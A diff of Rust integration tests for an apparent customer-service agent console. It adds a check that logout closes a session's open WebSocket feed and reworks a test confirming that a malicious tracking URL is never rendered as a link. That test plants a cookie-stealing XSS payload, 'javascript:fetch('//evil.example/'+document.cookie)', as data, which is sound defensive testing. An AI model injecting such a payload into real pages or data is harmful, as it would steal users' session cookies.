@@ -95,6 +95,33 @@ async fn every_login_has_its_own_session_and_logout_ends_it(backend: Backend) {
     line.app.stop().await;
 }
 
+async fn logout_closes_the_sessions_open_feed(backend: Backend) {
+    use futures::StreamExt;
+    let line = line(backend, &[("agent_token", AGENT)]).await;
+    let base = line.app.url.clone();
+    let session = log_in(&base).await;
+    let mut request = format!("{}/agent/feed", base.replace("http://", "ws://")).into_client_request().unwrap();
+    request.headers_mut().insert("Cookie", session.parse().unwrap());
+    request.headers_mut().insert("Origin", base.parse().unwrap());
+    let (mut feed, _) = tokio_tungstenite::connect_async(request).await.unwrap();
+    let logout =
+        client().post(format!("{base}/agent/logout")).header("Origin", &base).header("Cookie", &session).send().await;
+    assert_eq!(logout.unwrap().status(), StatusCode::SEE_OTHER);
+    // The snapshot, then the close (the feed rechecks its session every 5 s).
+    let closed = tokio::time::timeout(Duration::from_secs(10), async {
+        while let Some(message) = feed.next().await {
+            match message {
+                Ok(Message::Close(_)) | Err(_) => return true,
+                Ok(_) => {}
+            }
+        }
+        true
+    })
+    .await;
+    assert_eq!(closed, Ok(true), "the feed of an ended session is closed");
+    line.app.stop().await;
+}
+
 async fn a_session_expires(backend: Backend) {
     let line = line(backend, &[("agent_token", AGENT), ("agent_session_ttl", "1s")]).await;
     let base = line.app.url.clone();
@@ -187,13 +214,18 @@ async fn console_responses_forbid_framing_sniffing_and_inline_script(backend: Ba
 
 async fn a_javascript_tracking_url_never_becomes_a_link(backend: Backend) {
     let line = line(backend, &[("verify", "none"), ("agent_token", AGENT)]).await;
-    let mut order = line.latest_order("Dana");
-    assert!(!order.fulfillments.is_empty(), "the demo's latest order is shipped");
-    for f in &mut order.fulfillments {
-        f.tracking_url = Some("javascript:fetch('//evil.example/'+document.cookie)".into());
-        f.updated_at += chrono::Duration::seconds(5);
-    }
-    order.updated_at += chrono::Duration::seconds(5);
+    let latest = line.latest_order("Dana");
+    assert!(latest.fulfillments.iter().any(|f| f.tracking_url.is_some()), "the demo's latest order is tracked");
+    // In Shopify (the emulator) and in the store, as a webhook would have it.
+    let order = line
+        .sim
+        .change_order(latest.id, |o| {
+            for f in &mut o.fulfillments {
+                f.tracking_url = Some("javascript:fetch('//evil.example/'+document.cookie)".into());
+                f.updated_at += chrono::Duration::seconds(5);
+            }
+        })
+        .unwrap();
     let change = ShopifyChange::Order(Box::new(order.clone()));
     line.app.store().apply_all(SHOP, &[change], "US", Ts::from(Utc::now())).await.unwrap();
     let t = line.call("+15551234567", &["0"]).await;
@@ -209,12 +241,14 @@ async fn a_javascript_tracking_url_never_becomes_a_link(backend: Backend) {
         .unwrap();
     assert_eq!(card["orders"][0]["name"], order.name);
     assert_eq!(card["orders"][0]["tracking_url"], serde_json::Value::Null, "{card}");
+    assert!(card["orders"][0]["tracking_number"].is_string(), "the order is still tracked: {card}");
     line.app.stop().await;
 }
 
 on_both_backends!(
     a_page_on_another_origin_cannot_open_the_feed_with_the_agents_cookie,
     every_login_has_its_own_session_and_logout_ends_it,
+    logout_closes_the_sessions_open_feed,
     a_session_expires,
     login_and_logout_are_refused_unless_posted_from_the_console,
     wrong_tokens_are_rate_limited,
